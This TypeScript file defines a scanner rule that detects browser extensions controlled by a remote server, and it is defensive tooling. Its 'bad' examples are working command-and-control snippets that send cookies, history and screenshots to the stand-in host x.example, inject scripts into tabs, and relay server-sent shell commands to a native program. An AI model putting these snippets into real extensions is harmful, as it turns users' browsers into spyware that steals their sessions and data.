import {
  apiPath,
  type Call,
  callsNamed,
  callsOf,
  GUARD_SIZE,
  guardEnd,
  GuardKind,
  guardKind,
  guardStart,
  guardTexts,
  memberNameOf,
  pattern,
  receiverOf,
  type ScriptFacts,
  stringAt,
  testedValue,
} from '../../facts/javascript/query.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { backgroundExample, checkScripts, type Judged } from './checkScripts.ts';
import { namesItsAction } from './namesItsAction.ts';
import { isFromKnownServer } from './isFromKnownServer.ts';
import { isFromServer } from '../../extension/isFromServer.ts';
import { isOwnComputer } from '../../ownComputer.ts';
import { requestsOf } from './requestsOf.ts';
import { isMadeBy, isMadeOf } from '../../program/madeOf.ts';
import { first } from '../../facts/first.ts';
import { openedPages } from '../../program/openedPages.ts';
import { say } from '../../../texts/say.ts';
import { handlersOf, commandNames } from './commandHandlers.ts';

/** Powers that nobody gives away to a server without meaning it. */
const POWERS = [
  'chrome.tabs.executeScript',
  'chrome.scripting.executeScript',
  'chrome.cookies.getAll',
  'chrome.history.search',
  'chrome.tabs.captureVisibleTab',
  'chrome.management.setEnabled',
  'chrome.proxy.settings.set',
  'chrome.debugger.sendCommand',
  'chrome.tabs.create',
  'chrome.tabs.update',
  'chrome.downloads.download',
  'chrome.browsingData.remove',
  'chrome.windows.create',
  'chrome.runtime.sendNativeMessage',
  'fetch',
  'chrome.tabs.query',
  'chrome.bookmarks.getTree',
  'chrome.declarativeNetRequest.updateDynamicRules',
  'chrome.webRequest.onBeforeRequest.addListener',
  'chrome.webRequest.onBeforeSendHeaders.addListener',
  'chrome.scripting.registerContentScripts',
];

const WEAK: ReadonlySet<string> = new Set([
  'fetch',
  'chrome.tabs.query',
  'chrome.tabs.create',
  'chrome.tabs.update',
  'chrome.windows.create',
]);

export const commandChannel = defineRule({
  id: 'command-channel',
  title: 'Takes commands from a server',
  severity: 'high',
  confidence: 'high',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1071/001/', 'https://attack.mitre.org/techniques/T1176/'],
  why: 'Whoever runs the server can use each user’s browser as their own: read, click, open pages, take cookies. Banking trojans in extensions work this way.',
  remedy: 'Let a server send data for one purpose. Decide what the extension does in its own code.',
  check: checkScripts(function* (judged) {
    const { facts, script, hit } = judged;
    const channels = callsOf(
      script,
      'WebSocket',
      'EventSource',
      'io',
      'io.connect',
      'mqtt.connect',
      'chrome.gcm.onMessage.addListener',
      'chrome.instanceID.getToken',
    );
    for (const call of [
      ...callsOf(script, 'chrome.runtime.sendNativeMessage'),
      ...first(callsNamed(script, 'postMessage')).filter((one) => isNative(script, one)),
    ]) {
      const instructions = call.args.filter(
        (arg) => isFromServer(facts, script, arg) && isFromKnownServer(facts, script, arg),
      );
      if (instructions.length > 0)
        yield hit(call.value, {
          ...(instructions.every((arg) => namesItsAction(facts, script, arg))
            ? { severity: 'medium' as const, confidence: 'medium' as const }
            : {}),
          message: say('server-data-to-program'),
        });
    }
    yield* polled(judged, channels.length > 0);
    if (channels.length === 0) return;
    const handlers = handlersOf(script, new Set(channels.map((call) => call.value)));
    const used = new Map<string, number>();
    for (const path of POWERS) {
      for (const call of callsOf(script, path)) {
        // Named by a message: the call stands in what handles it, under a comparison with a command's name.
        if (handlers.some(({ start, end }) => call.pos >= start && call.pos < end))
          used.set(path, used.get(path) ?? call.value);
      }
    }
    const strong = [...used.keys()].filter((path) => !WEAK.has(path));
    const commands = commandNames(script, handlers);
    const head = channels[0] as { value: number };
    // One step milder than a stranger's, as all that goes between an extension and its computer.
    const isHere = channels.every(({ args }) => isOwnComputer(pattern(script, args[0] ?? 0)));
    if (strong.length >= 2 || (strong.length >= 1 && used.size >= 3))
      yield hit(head.value, {
        severity: isHere ? 'high' : 'critical',
        message: say('server-messages-control', [...used.keys()].join(', ')),
      });
    else if (strong.length === 1 || (used.size >= 2 && commands >= 3))
      yield hit(head.value, {
        ...(isHere ? { severity: 'medium' as const } : {}),
        confidence: 'medium',
        message: say('server-messages-control', [...used.keys()].join(', ')),
      });
    else
      for (const { call } of openedPages(script)) {
        if (
          channels.some((channel) => call.args.some((arg) => isMadeOf(script, arg, channel.value))) &&
          call.args.some((arg) => isFromServer(facts, script, arg))
        )
          yield hit(call.value, {
            severity: 'medium',
            confidence: 'medium',
            message: say('server-message-opens-page'),
          });
      }
  }),
  examples: {
    bad: [
      backgroundExample(
        'const ws = new WebSocket("wss://x.example/c"); ws.onmessage = async (e) => { const m = JSON.parse(e.data); switch (m.cmd) { case "cookies": ws.send(JSON.stringify(await chrome.cookies.getAll({}))); break; case "history": chrome.history.search({ text: "" }, (h) => ws.send(JSON.stringify(h))); break; case "open": chrome.tabs.create({ url: m.url }); break; } };',
      ),
      backgroundExample(
        'const ws = new WebSocket(host); ws.addEventListener("message", (e) => run(JSON.parse(e.data))); function run(m) { if (m.type === "inject") chrome.scripting.executeScript({ target: { tabId: m.tab }, files: [m.file] }); if (m.type === "shot") chrome.tabs.captureVisibleTab((u) => ws.send(u)); }',
      ),
      backgroundExample(
        'setInterval(async () => { const t = await (await fetch("https://x.example/task")).json(); if (t.cmd === "cookies") report(await chrome.cookies.getAll({})); else if (t.cmd === "history") report(await chrome.history.search({ text: "" })); }, 3e4);',
      ),
      backgroundExample(
        'const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { chrome.tabs.create({ url: JSON.parse(e.data).url }); };',
      ),
      backgroundExample(
        'const port = chrome.runtime.connectNative("com.example.host"); setInterval(async () => { const list = await fetch("https://x.example/cmd").then((r) => r.json()); list.forEach((c) => port.postMessage({ exec: c.shell })); }, 6e4);',
      ),
    ],
    good: [
      backgroundExample(
        'const port = chrome.runtime.connectNative("com.example.host"); chrome.runtime.onMessage.addListener((m) => port.postMessage({ ask: m.site })); fetch("https://api.example.com/v").then((r) => r.json()).then((v) => chrome.action.setBadgeText({ text: v.n }));',
      ),
      backgroundExample(
        'async function sync() { const d = await (await fetch("https://api.example.com/s")).json(); if (d.status === "ok") chrome.action.setBadgeText({ text: d.count }); if (mode === "x") chrome.cookies.getAll({}, count); } setInterval(sync, 6e4);',
      ),
      backgroundExample(
        'function steps(self, body) { var t, s = { label: 0, sent: function () { return t[1]; }, trys: [], ops: [] }; return { next: function (v) { return go([0, v]); } }; function go(op) { for (;;) { if (op[0] === 3) s.label = op[1]; else if (op[0] !== 4) t = op; else { s.label++; return { value: op[1], done: false }; } op = body.call(self, s); } } } function wait(self, args, P, run) { return new (P || (P = Promise))(function (done) { function on(r) { r.done ? done(r.value) : new P(function (d) { d(r.value); }).then(function (v) { on(run.next(v)); }); } on((run = run.apply(self, args || [])).next()); }); } function go() { return wait(this, void 0, void 0, function () { var jar, news; return steps(this, function (state) { switch (state.label) { case 0: return [4, fetch("https://api.example.com/s").then(function (r) { return r.json(); })]; case 1: news = state.sent(); return [4, chrome.cookies.getAll({ url: own })]; case 2: jar = state.sent(); return [2, jar.length]; } }); }); } setInterval(go, 6e4);',
      ),
      backgroundExample(
        'const ws = new WebSocket("wss://chat.example.com"); ws.onmessage = (e) => { chrome.notifications.create({ type: "basic", title: "New", message: JSON.parse(e.data).text }); };',
      ),
      backgroundExample(
        'const ws = new WebSocket("ws://localhost:35729"); ws.onmessage = () => chrome.runtime.reload(); chrome.tabs.query({ active: true }, (t) => show(t)); chrome.cookies.getAll({}, count); chrome.history.search({ text: "" }, list);',
      ),
    ],
  },
});

/** `switch (state.label) { case 0: … }`: which step of a function that a compiler took apart comes next. */
const isStep = (script: ScriptFacts, guard: number): boolean =>
  /^(?:label|next|prev|n|p)$/.test(memberNameOf(script, testedValue(script, guard))) &&
  guardTexts(script, guard).every((text) => /^\d+$/.test(stringAt(script, text)));

/** Commands fetched from time to time: powers under comparisons of what a server answered. */
function* polled({ facts, script, hit }: Judged, hasChannel: boolean): Generator<Hit> {
  if (hasChannel) return; // its messages are judged by what handles them
  const powers = callsOf(script, ...POWERS.filter((path) => !WEAK.has(path)));
  if (powers.length === 0 || requestsOf(script).length === 0) return;
  const used = new Map<string, number>();
  for (let at = 0, seen = 0; at < script.guards.length && seen < 2000; at += GUARD_SIZE, seen++) {
    const kind = guardKind(script, at);
    if (kind !== GuardKind.equals || guardTexts(script, at).length === 0 || isStep(script, at)) continue;
    const start = guardStart(script, at);
    const end = guardEnd(script, at);
    const inside = first(powers, 200).filter((call) => call.pos >= start && call.pos < end);
    if (inside.length === 0 || !isFromServer(facts, script, testedValue(script, at))) continue;
    for (const call of inside) used.set(apiPath(script, call.callee) ?? '', call.value);
  }
  const [head] = used;
  if (head === undefined) return;
  yield hit(head[1], {
    ...(used.size >= 2
      ? { severity: 'critical' as const }
      : { severity: 'medium' as const, confidence: 'medium' as const }),
    message: say('server-response-controls', [...used.keys()].join(', ')),
  });
}

/** `port.postMessage(…)` on a port to a program on the computer. */
function isNative(script: ScriptFacts, call: Call): boolean {
  const port = receiverOf(script, call);
  return (
    apiPath(script, port) === 'chrome.runtime.connectNative()' || isMadeBy(script, port, 'chrome.runtime.connectNative')
  );
}
